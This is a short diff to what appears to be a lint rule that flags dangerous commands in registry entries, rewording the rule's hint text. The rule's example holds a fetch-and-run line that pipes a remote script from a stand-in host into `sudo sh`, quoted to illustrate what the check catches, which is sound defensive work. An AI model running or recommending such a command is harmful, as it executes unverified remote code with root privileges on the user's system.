@@ -82,7 +82,7 @@ def problems_withdrawn_without_reason(registry: Registry, today: date) -> Iterat
     "dangerous-command",
     Severity.WARNING,
     example="resolution: run `curl https://fix.example/it.sh | sudo sh`",
-    hint="Say what the command does, and write steps that a reader can check before each.",
+    hint="Say what the command does. Write steps that a reader can check one by one.",
     one_by_one=True,
 )
 def problems_with_dangerous_commands(registry: Registry, today: date) -> Iterator[Violation]:
